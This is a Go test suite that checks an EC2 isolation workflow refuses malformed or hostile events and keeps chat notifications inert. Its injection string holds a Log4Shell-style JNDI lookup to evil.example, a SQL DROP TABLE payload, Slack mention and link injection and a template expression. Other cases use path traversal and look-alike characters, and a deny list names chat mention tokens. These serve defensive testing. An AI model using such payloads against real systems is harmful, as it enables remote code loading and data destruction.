package reliability

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"testing/synctest"

	"github.com/google/go-cmp/cmp"

	"github.com/ec2-isolation/ec2-isolation/internal/asl"
	"github.com/ec2-isolation/ec2-isolation/internal/inspect"
	"github.com/ec2-isolation/ec2-isolation/internal/secgroup"
	"github.com/ec2-isolation/ec2-isolation/internal/sim"
)

// eventWith is the event of instance id with change applied to its JSON form.
func eventWith(id string, change func(ev map[string]any)) json.RawMessage {
	var ev map[string]any
	if err := json.Unmarshal(event(id), &ev); err != nil {
		panic(err)
	}
	change(ev)
	b, err := json.Marshal(ev)
	if err != nil {
		panic(err)
	}
	return b
}

func detail(ev map[string]any) map[string]any { return ev["detail"].(map[string]any) }
func tags(ev map[string]any) map[string]any   { return detail(ev)["tags"].(map[string]any) }

func arn(acct, reg, id string) string {
	return fmt.Sprintf("arn:aws:ec2:%s:%s:instance/%s", reg, acct, id)
}

// hostileEvent is an execution input and what the workflow must make of it.
type hostileEvent struct {
	name  string
	event json.RawMessage
	// isolate: the event is a valid request, hostile only in its content; the instance must end isolated.
	isolate bool
	// reason is a part of the refusal's cause that names what is wrong (refused events only).
	reason string
}

// TestHostileEvents runs malformed and hostile events through the whole workflow. A refused event must fail
// "Validate and record" with InvalidEvent naming what is wrong, change nothing in the account and be notified
// once, in a notification that stays bounded and cannot act in chat; a valid event with hostile content must
// isolate. No task may fail with an unnamed error.
func TestHostileEvents(t *testing.T) {
	synctest.Test(t, hostileEvents)
}

func hostileEvents(t *testing.T) {
	sc, instances := fleet(8)
	e := newEnv(t, sc, virtualOptions())
	target := instances[0].ID // what the refused events name: it must stay untouched
	next := 1                 // the next instance a valid event isolates
	valid := func(change func(ev map[string]any)) (json.RawMessage, bool) {
		id := instances[next].ID
		next++
		return eventWith(id, change), true
	}
	refused := func(change func(ev map[string]any)) json.RawMessage { return eventWith(target, change) }
	long := func(s string, n int) string { return strings.Repeat(s, n) }
	injection := "<!channel> @here <https://evil.example/x|click here> *bold* `code` ${jndi:ldap://evil.example/a} '; DROP TABLE x;-- {{7*7}} \r\n\x00 \u202eevil"

	cases := []hostileEvent{
		// Missing fields.
		{name: "empty object", event: json.RawMessage(`{}`), reason: "source"},
		{name: "no resources", event: refused(func(ev map[string]any) { delete(ev, "resources") }), reason: "0 resources"},
		{name: "no detail", event: refused(func(ev map[string]any) { delete(ev, "detail") }), reason: "detail.service"},
		{name: "no tags", event: refused(func(ev map[string]any) { delete(detail(ev), "tags") }), reason: "no longer has tag"},
		{name: "no account", event: refused(func(ev map[string]any) { delete(ev, "account") }), reason: "account"},
		{name: "no region", event: refused(func(ev map[string]any) { delete(ev, "region") }), reason: "region"},
		{name: "null resource", event: refused(func(ev map[string]any) { ev["resources"] = []any{nil} }), reason: "not an EC2 instance ARN"},
		// Wrong types.
		{name: "resources is a string", event: refused(func(ev map[string]any) { ev["resources"] = arn(account, region, target) }), reason: "resources"},
		{name: "detail is a list", event: refused(func(ev map[string]any) { ev["detail"] = []any{"ec2"} }), reason: "detail"},
		{name: "tags is a list", event: refused(func(ev map[string]any) { detail(ev)["tags"] = []any{"Isolate=true"} }), reason: "tags"},
		{name: "tag value is a boolean", event: refused(func(ev map[string]any) { tags(ev)[tagKey] = true }), reason: "tags"},
		{name: "changed-tag-keys is a string", event: refused(func(ev map[string]any) { detail(ev)["changed-tag-keys"] = tagKey }), reason: "changed-tag-keys"},
		{name: "detail version is a string", event: refused(func(ev map[string]any) { detail(ev)["version"] = "3" }), reason: "version"},
		{name: "account is a number", event: refused(func(ev map[string]any) { ev["account"] = 123456789012 }), reason: "account"},
		{name: "the event is a list", event: json.RawMessage(`[` + string(event(target)) + `]`), reason: "event"},
		{name: "the event is a string", event: json.RawMessage(`"` + arn(account, region, target) + `"`), reason: "event"},
		// Several resources.
		{name: "two instances", event: refused(func(ev map[string]any) {
			ev["resources"] = []any{arn(account, region, target), arn(account, region, instances[1].ID)}
		}), reason: "2 resources"},
		{name: "an instance and a volume", event: refused(func(ev map[string]any) {
			ev["resources"] = []any{arn(account, region, target), "arn:aws:ec2:us-east-1:123456789012:volume/vol-0000000000000000a"}
		}), reason: "2 resources"},
		// Foreign account, region, partition.
		{name: "foreign account in the ARN", event: refused(func(ev map[string]any) { ev["resources"] = []any{arn("210987654321", region, target)} }), reason: "account"},
		{name: "foreign account in the event and the ARN", event: refused(func(ev map[string]any) {
			ev["account"] = "210987654321"
			ev["resources"] = []any{arn("210987654321", region, target)}
		}), reason: "210987654321"},
		{name: "foreign region", event: refused(func(ev map[string]any) {
			ev["region"] = "eu-west-1"
			ev["resources"] = []any{arn(account, "eu-west-1", target)}
		}), reason: "this stack acts in us-east-1"},
		{name: "other partition", event: refused(func(ev map[string]any) {
			ev["resources"] = []any{"arn:aws-cn:ec2:us-east-1:123456789012:instance/" + target}
		}), reason: "partition"},
		// Another resource type or service.
		{name: "volume tag change", event: refused(func(ev map[string]any) {
			detail(ev)["resource-type"] = "volume"
			ev["resources"] = []any{"arn:aws:ec2:us-east-1:123456789012:volume/vol-0000000000000000a"}
		}), reason: "detail.resource-type"},
		{name: "security group ARN in an instance event", event: refused(func(ev map[string]any) {
			ev["resources"] = []any{"arn:aws:ec2:us-east-1:123456789012:security-group/" + sgWeb}
		}), reason: "not an EC2 instance ARN"},
		{name: "S3 tag change", event: refused(func(ev map[string]any) { detail(ev)["service"] = "s3" }), reason: "detail.service"},
		{name: "other source", event: refused(func(ev map[string]any) { ev["source"] = "aws.tag\x00" }), reason: "source"},
		// Huge values.
		{name: "huge isolate value", event: refused(func(ev map[string]any) { tags(ev)[tagKey] = long("x", 64<<10) }), reason: "want \"true\""},
		{name: "huge resource ARN", event: refused(func(ev map[string]any) { ev["resources"] = []any{arn(account, region, target) + long("/..", 30000)} }), reason: "not an instance id"},
		{name: "a thousand changed tag keys", event: refused(func(ev map[string]any) {
			keys := []any{}
			for i := range 1000 {
				keys = append(keys, fmt.Sprintf("k%d", i))
			}
			detail(ev)["changed-tag-keys"] = keys
		}), reason: "changed tag keys"},
		// Unicode and look-alikes.
		{name: "Cyrillic e in the value", event: refused(func(ev map[string]any) { tags(ev)[tagKey] = "tru\u0435" }), reason: "want \"true\""},
		{name: "zero-width space in the key", event: refused(func(ev map[string]any) {
			detail(ev)["changed-tag-keys"] = []any{tagKey + "\u200b"}
			detail(ev)["tags"] = map[string]any{tagKey + "\u200b": tagValue}
		}), reason: "changed tag keys"},
		{name: "full-width digits in the instance id", event: refused(func(ev map[string]any) {
			ev["resources"] = []any{arn(account, region, "i-０１２３４５６７８９abcdef0")}
		}), reason: "not an instance id"},
		{name: "path traversal after the instance id", event: refused(func(ev map[string]any) {
			ev["resources"] = []any{arn(account, region, target) + "/../../i-00000000f1ee70001"}
		}), reason: "not an instance id"},
		// Injection-like strings.
		{name: "injection in the isolate value", event: refused(func(ev map[string]any) { tags(ev)[tagKey] = injection }), reason: "want \"true\""},
		{name: "injection in the changed tag key", event: refused(func(ev map[string]any) {
			detail(ev)["changed-tag-keys"] = []any{injection}
		}), reason: "changed tag keys"},
	}
	for _, c := range []struct {
		name   string
		change func(ev map[string]any)
	}{
		{"huge tags", func(ev map[string]any) {
			for i := range 49 {
				tags(ev)[fmt.Sprintf("tag-%02d-%s", i, long("k", 100))] = long("v", 256)
			}
			tags(ev)["Name"] = long("名", 256)
		}},
		{"unicode tags", func(ev map[string]any) {
			tags(ev)["Name"] = "网络服务器-😀-\u202eevil\u202c-ünïcödé"
			tags(ev)["😀"] = "\U0010ffff"
		}},
		{"injection in tag names and values", func(ev map[string]any) {
			tags(ev)["Name"] = injection
			tags(ev)[injection] = injection
			detail(ev)["changed-tag-keys"] = []any{tagKey, injection}
		}},
	} {
		ev, isolate := valid(c.change)
		cases = append(cases, hostileEvent{name: "valid event with " + c.name, event: ev, isolate: isolate})
	}

	ctx := context.Background()
	before, err := inspect.Read(ctx, e.reader, target)
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range cases {
		runCase(t, c.name, func(t testing.TB) {
			e.srv.ResetCalls()
			sent := len(e.srv.Messages())
			ex := e.runners[secgroup.ModeDirect].Start(ctx, fmt.Sprintf("hostile-%02d", i), c.event)
			msgs := e.srv.Messages()[sent:]
			for _, u := range unnamedErrors(ex) {
				t.Errorf("a task failed with an unnamed error: %s", u)
			}
			for _, m := range msgs {
				checkMessage(t, m)
			}
			if c.isolate {
				if ex.Status != asl.StatusSucceeded {
					t.Fatalf("execution %s %s: %s", ex.Status, ex.Error, ex.Cause)
				}
				var id string
				for _, fi := range instances {
					if strings.Contains(string(c.event), fi.ID) {
						id = fi.ID
						if p := e.isolationProblems(ctx, fi, ex.Name); len(p) > 0 {
							t.Errorf("not isolated: %s", strings.Join(p, "; "))
						}
					}
				}
				if len(msgs) != 1 || !strings.HasPrefix(msgs[0].Subject, "EC2 isolation SUCCEEDED: "+id) {
					t.Errorf("notifications %v, want one success for %s", subjects(msgs), id)
				}
				return
			}
			if ex.Status != asl.StatusFailed || ex.Error != "IsolationFailed" {
				t.Fatalf("execution %s %s (%s), want FAILED IsolationFailed", ex.Status, ex.Error, ex.Cause)
			}
			if got := failedStates(ex); !slices.Equal(got, []string{"Validate and record"}) {
				t.Errorf("failed states %v, want [Validate and record]", got)
			}
			vr := stateRun(ex, "Validate and record")
			if msg := causeMessage(vr.Cause); vr.Error != "InvalidEvent" || !strings.Contains(msg, c.reason) {
				t.Errorf("Validate and record: %s %s, want InvalidEvent naming %q", vr.Error, truncate(msg, 300), c.reason)
			}
			if len(msgs) != 1 || !strings.HasSuffix(msgs[0].Subject, " at Validate and record") {
				t.Errorf("notifications %v, want one failure at Validate and record", subjects(msgs))
			}
			for _, call := range e.srv.Calls() {
				if call.Mutating && call.Service == "ec2" {
					t.Errorf("refused event, yet %s by %s", call.Action, call.Caller)
				}
			}
		})
	}
	after, err := inspect.Read(ctx, e.reader, target)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(before, after); diff != "" {
		t.Errorf("the instance the refused events named changed (-before +after):\n%s", diff)
	}
}

// caseT reports a case's failures under its name, and its Fatalf ends only that case: T.Run cannot be called
// inside a synctest bubble.
type caseT struct {
	*testing.T
	name string
}

type caseFatal struct{}

func (c caseT) Errorf(format string, a ...any) {
	c.T.Helper()
	c.T.Errorf("%s: "+format, append([]any{c.name}, a...)...)
}

func (c caseT) Fatalf(format string, a ...any) {
	c.T.Helper()
	c.Errorf(format, a...)
	panic(caseFatal{})
}

func (c caseT) Fatal(a ...any) { c.Fatalf("%s", fmt.Sprint(a...)) }

// runCase runs one case of a table inside the bubble.
func runCase(t *testing.T, name string, f func(t testing.TB)) {
	defer func() {
		if r := recover(); r != nil {
			if _, ok := r.(caseFatal); !ok {
				panic(r)
			}
		}
	}()
	f(caseT{T: t, name: name})
}

// stateRun is the last run of a state in the execution's history.
func stateRun(ex *asl.Execution, name string) asl.StateRun {
	var last asl.StateRun
	for _, r := range ex.History.Summary() {
		if r.Name == name {
			last = r
		}
	}
	return last
}

func subjects(msgs []sim.Message) []string {
	var out []string
	for _, m := range msgs {
		out = append(out, m.Subject)
	}
	return out
}

// causeMessage is the message of a Lambda error's cause document ({"errorMessage", "errorType"}), else the cause.
func causeMessage(cause string) string {
	var doc struct {
		ErrorMessage string `json:"errorMessage"`
	}
	if json.Unmarshal([]byte(cause), &doc) == nil && doc.ErrorMessage != "" {
		return doc.ErrorMessage
	}
	return cause
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

// checkMessage: a notification stays within SNS's limits, its chat body is an AWS Chatbot notification, and no
// value in it can act in chat (mentions, links).
func checkMessage(t testing.TB, m sim.Message) {
	t.Helper()
	if len(m.Message) > 256<<10 || len(m.Subject) > 100 {
		t.Errorf("message of %d bytes, subject of %d", len(m.Message), len(m.Subject))
	}
	var bodies map[string]string
	if err := json.Unmarshal([]byte(m.Message), &bodies); err != nil {
		t.Errorf("message is not a MessageStructure json document: %v", err)
		return
	}
	var chat struct {
		Version, Source string
		Content         struct {
			Title, Description string
			NextSteps          []string
		}
	}
	if err := json.Unmarshal([]byte(bodies["default"]), &chat); err != nil || chat.Version != "1.0" || chat.Source != "custom" {
		t.Errorf("default body is not a Chatbot custom notification: %v %s", err, truncate(bodies["default"], 200))
	}
	text := strings.ToLower(chat.Content.Title + chat.Content.Description + strings.Join(chat.Content.NextSteps, " "))
	for _, active := range []string{"<!", "<@", "<http", "@here", "@channel"} {
		if strings.Contains(text, active) {
			t.Errorf("chat text contains %q: %s", active, truncate(text, 300))
		}
	}
	if strings.ContainsAny(m.Subject, "\r\n\x00") {
		t.Errorf("subject has control characters: %q", m.Subject)
	}
}
